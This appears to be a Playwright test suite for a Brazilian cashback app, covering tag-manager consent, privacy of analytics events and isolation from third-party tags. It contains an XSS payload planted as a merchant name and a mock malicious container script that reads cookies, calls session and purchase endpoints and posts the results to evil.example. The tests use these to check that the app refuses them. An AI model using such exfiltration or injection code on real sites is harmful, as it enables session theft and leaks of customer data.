import { createHash, randomUUID } from 'node:crypto';
import type { APIRequestContext, Page } from '@playwright/test';
import { expectAccessible } from '../src/axe.ts';
import { asOwner } from '../src/database.ts';
import { findSecrets, openFakeTags } from '../src/fake-tags.ts';
import { expect, type Merchant, newPhone, test } from '../src/merchant.ts';
import { untilIdle } from '../src/until-idle.ts';

const SAME_ORIGIN = { 'sec-fetch-site': 'same-origin' };
const GTM_ID = 'GTM-ABC1234';
const PIXEL_ID = '123456789012345';
const CUSTOMER = 'Jurandir Teixeira';

/** The counter, by calls; what it shows is another journey's matter. */
async function openCounterApi(request: APIRequestContext, merchant: Merchant) {
  const call = async (path: string, data: object) => {
    const answer = await request.post(`/trpc/${path}`, { headers: SAME_ORIGIN, data });
    expect(answer.status(), await answer.text()).toBe(200);
    return ((await answer.json()) as { result: { data: Record<string, unknown> } }).result.data;
  };
  await call('auth.login', { email: merchant.email, password: merchant.password });
  await asOwner('UPDATE merchants SET gtm_id = $2, meta_pixel_id = $3 WHERE signup_link_slug = $1', [
    merchant.slug,
    GTM_ID,
    PIXEL_ID,
  ]);
  return {
    sell: async (phone: string, amountCents: number) =>
      String((await call('cashback.issue', { operationId: randomUUID(), phone, amountCents })).link),
    redeem: async (phone: string, amountCents: number) => {
      const [customer] = await asOwner<{ id: string; merchant_id: string }>(
        `SELECT c.id, c.merchant_id FROM customers c JOIN merchants m ON m.id = c.merchant_id
         WHERE c.phone = $1 AND m.signup_link_slug = $2`,
        [phone, merchant.slug],
      );
      const input = { operationId: randomUUID(), customerId: customer?.id, amountCents };
      return String((await call('redemptions.create', input)).link);
    },
  };
}

/** The secret part of a code's link. */
const tokenIn = (link: string) => link.slice(link.indexOf('_') + 1);
const hashOf = (phone: string) => createHash('sha256').update(`+55${phone}`).digest('hex');
const ownOrigin = (merchant: Merchant) => `http://${merchant.slug}.localhost:${process.env.JOURNEYS_PORT}`;
const banner = (page: Page) => page.getByRole('region', { name: 'Privacidade' });
const answer = (page: Page, name: 'Aceitar' | 'Recusar') =>
  banner(page).getByRole('button', { name }).click();

test('a code is opened on the merchant’s own host: nothing before consent, then each event once, and no personal data in any of them', async ({
  phone: page,
  request,
  merchant,
}) => {
  const fakeTags = await openFakeTags(page.context());
  const number = newPhone();
  const counterApi = await openCounterApi(request, merchant);
  const link = await counterApi.sell(number, 12_345);
  const { pathname } = new URL(link);
  expect(new URL(link).origin).toBe(ownOrigin(merchant));
  const secrets = { phone: number, others: [tokenIn(link), CUSTOMER] };

  await page.goto(pathname);
  await expect(page.getByText('Parabéns!')).toBeVisible();
  await expect(page).toHaveURL(link);
  await expect(banner(page)).toContainText(`${merchant.name} pede sua permissão`);
  await untilIdle(page);
  expect(fakeTags.sent).toEqual([]);
  await expectAccessible(page, 'consent asked for');

  await answer(page, 'Aceitar');
  await expect.poll(fakeTags.events).toContain('Purchase');
  await expect(page).toHaveURL(`${ownOrigin(merchant)}/customer/cashback`);
  await expectAccessible(page, 'consent given');
  const purposes = (state: string) =>
    Object.fromEntries(
      ['ad_storage', 'ad_user_data', 'ad_personalization', 'analytics_storage'].map((name) => [name, state]),
    );
  expect(fakeTags.dataLayer().slice(0, 2)).toEqual([
    ['consent', 'default', purposes('denied')],
    ['consent', 'update', purposes('granted')],
  ]);
  const [row] = await asOwner<{ id: string }>('SELECT id FROM merchants WHERE signup_link_slug = $1', [
    merchant.slug,
  ]);
  const [purchase] = await asOwner<{ id: string }>(
    'SELECT id FROM transactions WHERE merchant_id = $1 ORDER BY created_at DESC',
    [row?.id],
  );
  const common = { merchantId: row?.id, customerPhone: hashOf(number) };
  const amounts = { ...common, amount: 123.45, cashbackAmount: 6.17 };
  const event = (name: string) => ({ event: name, ...amounts, eventId: `${name}-${purchase?.id}` });
  const isOurs = (item: unknown) => !/^gtm\./.test((item as { event?: string }).event ?? 'gtm.');
  expect(fakeTags.dataLayer().filter(isOurs)).toEqual([
    { event: 'PageView', merchantId: row?.id, screen: 'cashback', eventId: expect.any(String) },
    event('CashbackGenerated'),
    event('CashbackScanned'),
    { ...event('Purchase'), currency: 'BRL' },
  ]);
  await expect.poll(() => fakeTags.pixelCalls().length).toBe(7);
  const value = { value: 123.45, currency: 'BRL' };
  expect(fakeTags.pixelCalls()).toEqual([
    ['consent', 'revoke'],
    ['set', 'autoConfig', false, PIXEL_ID],
    ['init', PIXEL_ID],
    ['consent', 'grant'],
    [
      'track',
      'ViewContent',
      expect.objectContaining({ screen: 'cashback' }),
      { eventID: expect.any(String) },
    ],
    ['track', 'AddToCart', { ...amounts, ...value }, { eventID: `CashbackGenerated-${purchase?.id}` }],
    ['track', 'Purchase', { ...amounts, ...value }, { eventID: `Purchase-${purchase?.id}` }],
  ]);
  // Tags that a container adds run too: files from any origin, and custom HTML by the page's nonce.
  for (const name of ['from-the-container.js', 'custom-html'])
    expect(fakeTags.sent.map(({ url }) => url)).toContain(`https://tags.example/${name}`);

  await test.step('a reload shows the same and tells nothing twice', async () => {
    fakeTags.forget();
    await page.reload();
    await expect(page.getByText('Parabéns!')).toBeVisible();
    await expect.poll(fakeTags.events).toContain('PageView');
    await untilIdle(page);
    expect(fakeTags.dataLayer().filter(isOurs)).toHaveLength(1);
  });

  await test.step('the balance follows as a page of its own, back and forward find their screens again', async () => {
    await page.getByRole('link', { name: 'Ver Meu Saldo Completo' }).click();
    await expect(page.getByText('Histórico de Cashback')).toBeVisible();
    await expect(page).toHaveURL(`${ownOrigin(merchant)}/customer/dashboard?loja=${merchant.slug}`);
    await expect.poll(fakeTags.events).toContain('CustomerLogin');
    expect(fakeTags.dataLayer()).toContainEqual({
      event: 'CustomerLogin',
      ...common,
      merchantName: merchant.name,
      eventId: expect.any(String),
    });
    await page.goBack();
    await expect(page.getByText('Parabéns!')).toBeVisible();
    await expect(page).toHaveURL(`${ownOrigin(merchant)}/customer/cashback`);
    await page.goForward();
    await expect(page.getByText('Histórico de Cashback')).toBeVisible();
    await expect(page).toHaveURL(`${ownOrigin(merchant)}/customer/dashboard?loja=${merchant.slug}`);
    await untilIdle(page);
    expect(fakeTags.events().filter((name) => name.startsWith('Cashback') || name === 'Purchase')).toEqual(
      [],
    );
  });

  await test.step('a redemption is told when it was made and completed', async () => {
    fakeTags.forget();
    const redemption = await counterApi.redeem(number, 510);
    secrets.others.push(tokenIn(redemption));
    await page.goto(redemption);
    await expect(page.getByText('Resgate Confirmado!')).toBeVisible();
    await expect.poll(fakeTags.events).toContain('RedemptionCompleted');
    for (const name of ['RedemptionGenerated', 'RedemptionCompleted']) {
      const redeemed = { event: name, ...common, amount: 5.1, currency: 'BRL', eventId: expect.any(String) };
      expect(fakeTags.dataLayer()).toContainEqual(redeemed);
    }
    await expect.poll(() => fakeTags.pixelCalls().map(([, name]) => name)).toContain('InitiateCheckout');
  });

  await test.step('who takes it back is told of no more, neither now nor after a reload', async () => {
    await banner(page).getByRole('button', { name: 'Privacidade' }).click();
    await expect(banner(page)).toBeFocused();
    await expect(banner(page)).toContainText('Você tinha aceitado.');
    await answer(page, 'Recusar');
    await expect(banner(page).getByRole('button', { name: 'Privacidade' })).toBeFocused();
    await expect.poll(fakeTags.dataLayer).toContainEqual(['consent', 'update', purposes('denied')]);
    await expect.poll(fakeTags.pixelCalls).toContainEqual(['consent', 'revoke']);
    expect(findSecrets(fakeTags, secrets)).toEqual([]);
    fakeTags.forget();
    await page.reload();
    await expect(page.getByText('Resgate Confirmado!')).toBeVisible();
    await untilIdle(page);
    expect(fakeTags.sent).toEqual([]);
  });
});

test('who refuses is asked no more and reported nowhere; who signs up is told apart from who comes back, by no name', async ({
  phone: page,
  request,
  merchant,
}) => {
  const fakeTags = await openFakeTags(page.context());
  await openCounterApi(request, merchant);
  // The forms refuse such a name; a row from elsewhere may hold it.
  const hostile = `</script><img src=x onerror="window.hacked=1">'"\\`;
  await asOwner('UPDATE merchants SET name = $2 WHERE signup_link_slug = $1', [merchant.slug, hostile]);
  const number = newPhone();
  const signup = `${ownOrigin(merchant)}/signup/${merchant.slug}`;
  const signUp = async () => {
    await page.goto(signup);
    await page.getByLabel('Nome Completo').fill(CUSTOMER);
    await page.getByLabel('Telefone').fill(number);
    await page.getByRole('button', { name: 'Cadastrar e Começar' }).click();
    await expect(page.getByText('Histórico de Cashback')).toBeVisible();
  };

  await page.goto(signup);
  await expect(banner(page)).toContainText(`${hostile} pede sua permissão`);
  await page.getByRole('button', { name: 'Recusar' }).press('Enter');
  await page.reload();
  await expect(page.getByRole('button', { name: 'Cadastrar e Começar' })).toBeVisible();
  await expect(banner(page).getByRole('button')).toHaveText(['Privacidade']);
  await untilIdle(page);
  expect(fakeTags.sent).toEqual([]);

  await banner(page).getByRole('button', { name: 'Privacidade' }).press('Enter');
  await expectAccessible(page, 'consent asked for again');
  await page.getByRole('button', { name: 'Aceitar' }).press('Enter');
  await expect.poll(fakeTags.events).toContain('PageView');
  await signUp();
  await expect(page).toHaveURL(`${ownOrigin(merchant)}/customer/dashboard?loja=${merchant.slug}`);
  await expect.poll(fakeTags.events).toContain('CustomerSignup');
  const [customer] = await asOwner<{ id: string; merchant_id: string }>(
    'SELECT id, merchant_id FROM customers WHERE phone = $1',
    [number],
  );
  expect(fakeTags.dataLayer()).toContainEqual({
    event: 'CustomerSignup',
    merchantId: customer?.merchant_id,
    customerId: customer?.id,
    customerPhone: hashOf(number),
    signup_source: 'merchant_link',
    eventId: expect.any(String),
  });
  await expect.poll(() => fakeTags.pixelCalls().map(([, name]) => name)).toContain('CompleteRegistration');
  expect(fakeTags.events()).not.toContain('CustomerLogin');
  fakeTags.forget();
  await signUp();
  await expect.poll(fakeTags.events).toContain('CustomerLogin');
  expect(fakeTags.events()).not.toContain('CustomerSignup');
  expect(fakeTags.dataLayer()).toContainEqual(expect.objectContaining({ merchantName: hostile }));
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(findSecrets(fakeTags, { phone: number, others: [CUSTOMER, 'Jurandir', 'Teixeira'] })).toEqual([]);
});

test('tags that hang, are missing or break hold nothing up, and what they were not told waits for a page that can tell them', async ({
  phone: page,
  request,
  merchant,
}) => {
  const fakeTags = await openFakeTags(page.context());
  const counterApi = await openCounterApi(request, merchant);
  await page.addInitScript(() => localStorage.setItem('consentimento-tags', 'granted'));
  const links: string[] = [];
  for (const how of ['hanging', 'missing', 'throwing'] as const) {
    fakeTags.answerScripts(how);
    fakeTags.forget();
    const link = await counterApi.sell(newPhone(), 10_000);
    links.push(link);
    await page.goto(link, { waitUntil: 'commit' });
    await expect(page.getByText('Parabéns!'), how).toBeVisible();
    await expect.poll(() => fakeTags.sent.length, how).toBe(2);
    await page.getByRole('link', { name: 'Ver Meu Saldo Completo' }).click();
    await expect(page.getByText('Histórico de Cashback'), how).toBeVisible();
    if (how === 'throwing') continue;
    const told = await asOwner(
      `SELECT event FROM tag_deliveries d JOIN merchants m ON m.id = d.merchant_id WHERE m.signup_link_slug = $1`,
      [merchant.slug],
    );
    expect(told, how).toEqual([]);
  }
  fakeTags.answerScripts('well');
  await page.goto(links[0] ?? '');
  await expect.poll(fakeTags.events).toContain('Purchase');
});

/** A malicious merchant's container tries this; the answers go where it could read them. */
const attack = (app: string) => `
  const tell = (what, answer) => fetch('https://evil.example/?' + what, { method: 'POST', body: String(answer) }).catch(() => {});
  const call = (what, address, init) => fetch(address, { credentials: 'include', ...init })
    .then(async (answer) => tell(what, answer.type + ' ' + answer.status + ' ' + await answer.text()), () => tell(what, 'refused'));
  const json = (body) => ({ method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
  const purchase = { operationId: '00000000-0000-4000-8000-000000000001', phone: '11987654321', amountCents: 100 };
  call('session', '${app}/trpc/auth.session');
  call('issue', '${app}/trpc/cashback.issue', json(purchase));
  call('blind', '${app}/trpc/cashback.issue', { method: 'POST', mode: 'no-cors', body: JSON.stringify(purchase) });
  call('page', '${app}/settings', { mode: 'no-cors' });
  call('own-session', '/trpc/auth.session');
  call('own-issue', '/trpc/cashback.issue', json(purchase));
  call('own-file', '/files/customers.csv');
  tell('cookie', document.cookie);
  const frame = document.createElement('iframe');
  frame.src = '${app}/settings';
  frame.onload = () => { let text; try { text = frame.contentDocument?.body.textContent } catch { text = 'refused' } tell('frame', text); };
  document.body.append(frame);`;

test.describe('without the help of the page’s own policy, which keeps it from much of this', () => {
  test.use({ bypassCSP: true });

  test('a container that means harm gets nothing of a member of staff in the same browser', async ({
    page: counter,
    request,
    merchant,
    baseURL,
  }) => {
    const app = baseURL ?? '';
    // The same browser, and so the same cookies.
    const counterApi = await openCounterApi(counter.request, merchant);
    const link = await counterApi.sell(newPhone(), 10_000);
    const context = counter.context();
    expect((await context.cookies(app)).map(({ name }) => name)).toContain('session');
    const fakeTags = await openFakeTags(context, attack(app));
    const page = await context.newPage();
    const cookies: string[] = [];
    page.on('request', async (sent) => {
      const headers = await sent.allHeaders().catch(() => ({}) as Record<string, string>);
      if (headers.cookie) cookies.push(`${sent.url()}: ${headers.cookie}`);
    });
    await page.goto(link);
    await answer(page, 'Aceitar');
    const told = () =>
      Object.fromEntries(
        fakeTags.sent.flatMap(({ url, body }) =>
          url.startsWith('https://evil.example/?') ? [[url.split('?')[1], body]] : [],
        ),
      );
    await expect.poll(() => Object.keys(told()).length).toBe(9);
    const notFound = expect.stringMatching(/^basic 404 .*"refusal":"not_found"/);
    expect(told()).toEqual({
      session: 'refused',
      issue: 'refused',
      // Cross-Origin-Resource-Policy: what is no page of its own origin does not even get an opaque answer.
      blind: 'refused',
      page: 'refused',
      'own-session': notFound,
      'own-issue': notFound,
      'own-file': expect.stringMatching(/^basic 404 /),
      cookie: '',
      frame: expect.stringMatching(/^(?:refused|undefined|null)$/),
    });
    expect(cookies.filter((each) => each.includes('session='))).toEqual([]);
    const purchases = await asOwner(
      'SELECT t.amount_cents FROM transactions t JOIN merchants m ON m.id = t.merchant_id WHERE m.signup_link_slug = $1',
      [merchant.slug],
    );
    expect(purchases).toHaveLength(1);

    for (const address of ['/login', '/dashboard', '/settings', '/customers', `/signup/ninguem`]) {
      const answered = await request.get(address);
      const policy = answered.headers()['content-security-policy'] ?? '';
      expect(policy, address).toMatch(/script-src [^;]*'self'/);
      expect(policy, address).not.toMatch(
        /https:[^;]*;?.*script|script-src[^;]*(?:https:|strict-dynamic|unsafe)/,
      );
      expect(policy, address).toMatch(/connect-src 'self'(?:;|$)/);
      expect(await answered.text(), address).not.toContain(GTM_ID);
    }
  });
});
